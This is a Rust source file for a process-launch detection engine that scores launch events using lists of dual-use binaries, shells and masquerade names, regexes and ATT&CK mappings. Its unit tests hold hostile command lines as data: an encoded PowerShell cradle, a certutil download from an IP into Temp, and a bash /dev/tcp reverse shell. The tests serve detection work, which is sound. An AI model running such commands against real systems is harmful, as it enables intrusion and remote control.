//! Evidence: the named, human-readable facts about a process launch that an analyst reads
//! first (where the binary runs from, who started it, what its arguments do), each a number
//! the verdict head weighs and a phrase a verdict can show ("encoded PowerShell", "Office
//! parent", "runs from Temp").
//!
//! The detectors encode security knowledge that carries over to activity nobody wrote an
//! example of: a new LOLBin download still has a URL, a dual-use binary and a user-writable
//! target. Must not: decide a label (the head weighs the evidence; no detector is a rule), or
//! allocate per detector call beyond the lower-cased view built once per event.

use std::sync::LazyLock;

use regex::Regex;
use sotto_events::{Event, Os};

/// One event, lower-cased and split into the parts the detectors read.
pub struct View {
    pub os: Os,
    /// Full image path (or name), lower case, quotes trimmed.
    pub image: String,
    /// Basename of the image, lower case.
    pub name: String,
    /// The command line, lower case ("" when unknown).
    pub cmd: String,
    /// The command line as given, for checks where case carries meaning (base64).
    pub cmd_raw: String,
    /// `cmd` with flags spelled the other Windows way (` /x` as ` -x`, and ` -x` as ` /x`),
    /// so one needle matches both spellings.
    cmd_dash: String,
    cmd_slash: String,
    /// Parent basename and full path, lower case.
    pub parent: String,
    pub parent_path: String,
    pub parent_cmd: String,
    pub user: String,
    /// `low`, `medium`, `high`, `system`, ... or "".
    pub integrity: String,
    /// A 4688 event recorded without its command line.
    pub cmd_missing: bool,
}

impl View {
    pub fn new(e: &Event) -> View {
        let lower = |s: &Option<String>| s.as_deref().unwrap_or("").trim().trim_matches('"').to_lowercase();
        let mut image = if e.process_path.is_some() { lower(&e.process_path) } else { lower(&e.process_name) };
        if image.is_empty() {
            // Only a command line (plain or thin ECS events): its program part names the image.
            image = program(&e.command_line.as_deref().unwrap_or("").to_lowercase()).to_string();
        }
        let name = basename(&image).to_string();
        let parent_path = if e.parent_path.is_some() { lower(&e.parent_path) } else { lower(&e.parent_name) };
        let parent = basename(&parent_path).to_string();
        let cmd_raw = e.command_line.clone().unwrap_or_default();
        let cmd = cmd_raw.to_lowercase();
        View {
            os: e.os,
            cmd_dash: cmd.replace(" /", " -"),
            cmd_slash: cmd.replace(" -", " /"),
            cmd,
            cmd_raw,
            image,
            name,
            parent,
            parent_path,
            parent_cmd: lower(&e.parent_command_line),
            user: lower(&e.user),
            integrity: lower(&e.integrity),
            cmd_missing: e.command_line_missing,
        }
    }

    /// Whether the command line holds any of `needles`, in either flag spelling.
    pub fn has(&self, needles: &[&str]) -> bool {
        any(&self.cmd, needles) || any(&self.cmd_dash, needles) || any(&self.cmd_slash, needles)
    }

    /// The command line without the program part, so that "the binary's own path" does not
    /// count as an argument.
    fn args(&self) -> &str {
        let c = self.cmd.trim_start();
        let rest = if let Some(q) = c.strip_prefix('"') {
            q.split_once('"').map_or("", |(_, r)| r)
        } else {
            c.split_once(char::is_whitespace).map_or("", |(_, r)| r)
        };
        rest.trim_start()
    }
}

/// The program part of a command line: a leading quoted string, or the first word.
fn program(cmd: &str) -> &str {
    let c = cmd.trim_start();
    match c.strip_prefix('"') {
        Some(q) => q.split('"').next().unwrap_or(q),
        None => c.split_whitespace().next().unwrap_or(""),
    }
}

/// The last component of a Windows or Unix path.
pub fn basename(path: &str) -> &str {
    path.trim_end_matches(['\\', '/']).rsplit(['\\', '/']).next().unwrap_or(path)
}

/// One detector: a stable id (part of the head file), the phrase a verdict shows, the test.
pub struct Detector {
    pub id: &'static str,
    pub phrase: &'static str,
    pub test: fn(&View) -> f32,
}

fn any(hay: &str, needles: &[&str]) -> bool {
    needles.iter().any(|n| hay.contains(n))
}

fn b(x: bool) -> f32 {
    if x { 1.0 } else { 0.0 }
}

static URL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)\b(?:https?|ftp)://").expect("regex"));
static IP_URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)(?:https?|ftp)://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}").expect("regex"));
static BARE_IP: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|[^\d.])(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?:[^\d.]|$)").expect("regex"));
static BASE64: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{60,}={0,2}").expect("regex"));
static PS_ENC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\s[-/](?:e|ec|en|enc|enco|encod|encodedcommand)\s+[A-Za-z0-9+/=]{16,}").expect("regex")
});
static HEX_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[0-9a-f]{8,}\.\w+$|^[a-z]{1,2}\.exe$").expect("regex"));

/// Where the image lives, as a user-writable or staging location.
fn user_writable(p: &str) -> bool {
    any(
        p,
        &[
            "\\appdata\\",
            "\\temp\\",
            "\\tmp\\",
            "\\users\\public\\",
            "\\downloads\\",
            "\\desktop\\",
            "\\programdata\\",
            "\\perflogs\\",
            "\\windows\\tasks\\",
            "\\recycle",
            "/tmp/",
            "/var/tmp/",
            "/dev/shm/",
            "/private/tmp/",
            "/users/shared/",
        ],
    ) || p.starts_with("/home/") && p.contains("/.")
        || p.starts_with("/users/") && (p.contains("/downloads/") || p.contains("/."))
}

fn system_dir(p: &str) -> bool {
    any(p, &["\\windows\\system32\\", "\\windows\\syswow64\\", "\\windows\\"]) && !any(p, &["\\temp\\", "\\tasks\\"])
        || any(p, &["/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/", "/usr/lib/", "/usr/libexec/", "/system/"])
}

fn program_files(p: &str) -> bool {
    any(p, &["\\program files", "/opt/", "/applications/", "/usr/local/", "/snap/", "/opt/homebrew/"])
}

/// Binaries that administrators use and attackers abuse (execution proxies, downloaders,
/// system tools). Our own selection of the well-known ones.
const DUAL_USE: &[&str] = &[
    "certutil.exe",
    "bitsadmin.exe",
    "mshta.exe",
    "regsvr32.exe",
    "rundll32.exe",
    "wmic.exe",
    "msbuild.exe",
    "installutil.exe",
    "cmstp.exe",
    "odbcconf.exe",
    "forfiles.exe",
    "pcalua.exe",
    "msiexec.exe",
    "esentutl.exe",
    "expand.exe",
    "extrac32.exe",
    "hh.exe",
    "regasm.exe",
    "regsvcs.exe",
    "mavinject.exe",
    "csc.exe",
    "wscript.exe",
    "cscript.exe",
    "schtasks.exe",
    "at.exe",
    "sc.exe",
    "reg.exe",
    "netsh.exe",
    "vssadmin.exe",
    "wevtutil.exe",
    "bcdedit.exe",
    "wbadmin.exe",
    "fsutil.exe",
    "ntdsutil.exe",
    "nltest.exe",
    "dsquery.exe",
    "net.exe",
    "net1.exe",
    "psexec.exe",
    "psexec64.exe",
    "procdump.exe",
    "procdump64.exe",
    "winrs.exe",
    "icacls.exe",
    "takeown.exe",
    "attrib.exe",
    "curl.exe",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "curl",
    "wget",
    "base64",
    "openssl",
    "nohup",
    "setsid",
    "crontab",
    "osascript",
    "launchctl",
    "security",
    "dscl",
    "xattr",
    "chattr",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
];

const SHELLS: &[&str] = &[
    "cmd.exe",
    "powershell.exe",
    "pwsh.exe",
    "powershell_ise.exe",
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "fish",
    "busybox",
];

const SCRIPT_HOSTS: &[&str] = &["wscript.exe", "cscript.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe"];

const OFFICE: &[&str] = &[
    "winword.exe",
    "excel.exe",
    "powerpnt.exe",
    "outlook.exe",
    "msaccess.exe",
    "mspub.exe",
    "onenote.exe",
    "visio.exe",
    "acrord32.exe",
    "acrobat.exe",
    "foxitreader.exe",
];

const SERVERS: &[&str] = &[
    "w3wp.exe",
    "httpd.exe",
    "nginx.exe",
    "tomcat.exe",
    "tomcat9.exe",
    "sqlservr.exe",
    "php-cgi.exe",
    "java.exe",
    "httpd",
    "apache2",
    "nginx",
    "php-fpm",
    "java",
    "node",
    "tomcat",
    "mysqld",
    "postgres",
];

/// System binaries whose name an implant borrows; outside the Windows folder they are fakes.
const MASQUERADE: &[&str] = &[
    "svchost.exe",
    "lsass.exe",
    "csrss.exe",
    "services.exe",
    "smss.exe",
    "winlogon.exe",
    "explorer.exe",
    "spoolsv.exe",
    "taskhost.exe",
    "taskhostw.exe",
    "conhost.exe",
    "dllhost.exe",
    "rundll32.exe",
    "wininit.exe",
];

fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

/// Detectors that are tradecraft in themselves (an administrator rarely does any of this).
/// Their count is a feature of its own, so a family the head never saw, whose one tell-tale
/// detector never fired in training, still inherits what every other attack taught.
pub const STRONG: &[&str] = &[
    "masquerade",
    "odd_name",
    "office_spawns_shell",
    "server_spawns_shell",
    "encoded_powershell",
    "decode_then_run",
    "obfuscation",
    "ip_url",
    "download_exec",
    "proxy_execution",
    "credential_access",
    "directory_dump",
    "hive_save",
    "shadow_or_backup_delete",
    "log_tamper",
    "defense_tamper",
    "account_change",
    "reverse_shell",
    "miner",
    "exfil",
    "impact",
    "container_escape",
    "uac_bypass",
    "named_pipe_echo",
    "lolbin_no_args",
    "web_user_shell",
    "script_file_user_path",
    "tunnel",
    "hidden_staging",
    "hijack",
    "setuid",
];

/// Detectors that add weight only together (dual-use tools, where things run from).
pub const WEAK: &[&str] = &[
    "image_user_writable",
    "image_temp",
    "image_public",
    "image_hidden",
    "dual_use",
    "script_host_parent",
    "wmi_parent",
    "parent_user_writable",
    "base64_blob",
    "url",
    "bare_ip",
    "download",
    "hidden_window",
    "policy_bypass",
    "persistence",
    "discovery",
    "domain_discovery",
    "remote_execution",
    "permission_change",
    "collection",
];

/// The ATT&CK ids a fired detector implies, where it implies one.
pub fn techniques(id: &str, v: &View) -> &'static [&'static str] {
    match id {
        "encoded_powershell" => &["T1059.001", "T1027"],
        "obfuscation" | "decode_then_run" => &["T1027", "T1140"],
        "download" | "download_exec" => &["T1105"],
        "proxy_execution" => match v.name.as_str() {
            "rundll32.exe" => &["T1218.011"],
            "regsvr32.exe" => &["T1218.010"],
            "mshta.exe" => &["T1218.005"],
            "msbuild.exe" => &["T1127.001"],
            "installutil.exe" => &["T1218.004"],
            "cmstp.exe" => &["T1218.003"],
            "odbcconf.exe" => &["T1218.008"],
            "regasm.exe" | "regsvcs.exe" => &["T1218.009"],
            "msiexec.exe" => &["T1218.007"],
            "certutil.exe" => &["T1105", "T1140"],
            _ => &["T1218"],
        },
        "credential_access" => {
            if v.cmd.contains("lsass") || v.cmd.contains("sekurlsa") || v.cmd.contains("minidump") {
                &["T1003.001"]
            } else if v.cmd.contains("shadow") {
                &["T1003.008"]
            } else if v.cmd.contains("keychain") || v.cmd.contains("-password") {
                &["T1555.001"]
            } else {
                &["T1003"]
            }
        }
        "directory_dump" => &["T1003.003"],
        "hive_save" => &["T1003.002"],
        "shadow_or_backup_delete" => &["T1490"],
        "log_tamper" => {
            if v.cmd.contains("history") || v.cmd.contains("histfile") {
                &["T1070.003"]
            } else if v.os == Os::Windows {
                &["T1070.001"]
            } else {
                &["T1070.002"]
            }
        }
        "defense_tamper" => {
            if v.cmd.contains("firewall") || v.cmd.contains("iptables") || v.cmd.contains("ufw") {
                &["T1562.004"]
            } else if v.cmd.contains("quarantine") {
                &["T1553.001"]
            } else {
                &["T1562.001"]
            }
        }
        "persistence" => {
            if v.cmd.contains("\\run") || v.cmd.contains("currentversion\\run") {
                &["T1547.001"]
            } else if v.cmd.contains("schtasks") || v.cmd.contains("scheduledtask") {
                &["T1053.005"]
            } else if v.cmd.contains("sc create")
                || v.cmd.contains("sc.exe create")
                || v.cmd.contains("new-service")
                || v.cmd.contains("sc config")
            {
                &["T1543.003"]
            } else if v.cmd.contains("cron") {
                &["T1053.003"]
            } else if v.cmd.contains("authorized_keys") {
                &["T1098.004"]
            } else if v.cmd.contains("launchagents") {
                &["T1543.001"]
            } else if v.cmd.contains("launchdaemons") {
                &["T1543.004"]
            } else if v.cmd.contains("ld.so.preload") {
                &["T1574.006"]
            } else if v.cmd.contains("image file execution options") {
                &["T1546.012"]
            } else if v.cmd.contains("eventfilter") || v.cmd.contains("eventconsumer") {
                &["T1546.003"]
            } else {
                &[]
            }
        }
        "account_change" => &["T1136.001", "T1098"],
        "reverse_shell" => &["T1059.004"],
        "miner" => &["T1496"],
        "exfil" => &["T1567", "T1560.001"],
        "impact" => &["T1486"],
        "container_escape" => &["T1611"],
        "uac_bypass" => &["T1548.002"],
        "masquerade" => &["T1036.005"],
        "named_pipe_echo" => &["T1134.001"],
        "domain_discovery" => &["T1087.002", "T1482"],
        "discovery" => &["T1087", "T1082", "T1016"],
        "remote_execution" => {
            if v.cmd.contains("wmic") || v.parent == "wmiprvse.exe" {
                &["T1047"]
            } else if v.cmd.contains("psexec") || v.name == "psexesvc.exe" || v.parent == "psexesvc.exe" {
                &["T1569.002", "T1021.002"]
            } else if v.parent == "wsmprovhost.exe" || v.cmd.contains("invoke-command") || v.cmd.contains("winrs") {
                &["T1021.006"]
            } else {
                &["T1021"]
            }
        }
        "office_spawns_shell" => &["T1204.002", "T1566.001"],
        "server_spawns_shell" | "web_user_shell" => &["T1505.003"],
        "collection" => {
            if v.cmd.contains("screen") || v.cmd.contains("import -window") || v.cmd.contains("xwd") {
                &["T1113"]
            } else if v.cmd.contains("clip") || v.cmd.contains("pbpaste") {
                &["T1115"]
            } else {
                &["T1005"]
            }
        }
        "permission_change" => &["T1222"],
        "tunnel" => &["T1090"],
        "hijack" => {
            if v.cmd.contains("ld_preload") || v.cmd.contains("ld.so.preload") {
                &["T1574.006"]
            } else if v.cmd.contains("dyld") {
                &["T1574.004"]
            } else {
                &["T1546.012"]
            }
        }
        "setuid" => &["T1548.001"],
        "hidden_staging" => &["T1564.001"],
        "script_file_user_path" => &["T1059"],
        _ => &[],
    }
}

mod detectors;
pub use detectors::DETECTORS;

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn fired(v: serde_json::Value) -> Vec<&'static str> {
        let e = sotto_events::parse_json(&v).unwrap();
        let view = View::new(&e);
        DETECTORS.iter().filter(|d| (d.test)(&view) > 0.0).map(|d| d.id).collect()
    }

    #[test]
    fn ids_are_unique_and_grouped_ids_exist() {
        let mut ids: Vec<_> = DETECTORS.iter().map(|d| d.id).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), DETECTORS.len());
        for id in STRONG.iter().chain(WEAK) {
            assert!(ids.contains(id), "{id} is not a detector");
        }
        let view = View::new(&sotto_events::parse_json(&json!({"command_line": "x"})).unwrap());
        for d in DETECTORS {
            for t in techniques(d.id, &view) {
                assert!(sotto_events::techniques::is_valid(t), "{} implies unknown {t}", d.id);
            }
        }
    }

    #[test]
    fn encoded_cradle_from_office() {
        let f = fired(json!({"process_name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "command_line": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "parent_name": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "os": "windows"}));
        for want in
            ["encoded_powershell", "office_parent", "office_spawns_shell", "hidden_window", "shell", "base64_blob"]
        {
            assert!(f.contains(&want), "{want} not in {f:?}");
        }
        assert!(!f.contains(&"image_user_writable"));
    }

    #[test]
    fn certutil_download_to_temp() {
        let f = fired(
            json!({"command_line": "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe",
            "process_name": "C:\\Windows\\System32\\certutil.exe", "os": "windows"}),
        );
        for want in ["dual_use", "url", "ip_url", "bare_ip", "download", "proxy_execution", "image_system_dir"] {
            assert!(f.contains(&want), "{want} not in {f:?}");
        }
    }

    #[test]
    fn a_service_host_shows_only_its_place() {
        let f = fired(json!({"command_line": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "process_name": "C:\\Windows\\System32\\svchost.exe", "parent_name": "C:\\Windows\\System32\\services.exe",
            "user": "NT AUTHORITY\\SYSTEM", "os": "windows"}));
        assert!(f.contains(&"image_system_dir") && f.contains(&"services_parent") && f.contains(&"system_user"));
        for absent in ["masquerade", "url", "download", "persistence", "credential_access", "dual_use"] {
            assert!(!f.contains(&absent), "{absent} in {f:?}");
        }
    }

    #[test]
    fn linux_reverse_shell_and_masquerade() {
        let f = fired(
            json!({"command_line": "bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'", "process_name": "/usr/bin/bash", "os": "linux"}),
        );
        assert!(f.contains(&"reverse_shell") && f.contains(&"bare_ip"), "{f:?}");
        let m = fired(
            json!({"command_line": "C:\\Users\\Public\\svchost.exe", "process_name": "C:\\Users\\Public\\svchost.exe", "os": "windows"}),
        );
        assert!(m.contains(&"masquerade") && m.contains(&"image_public"), "{m:?}");
    }
}
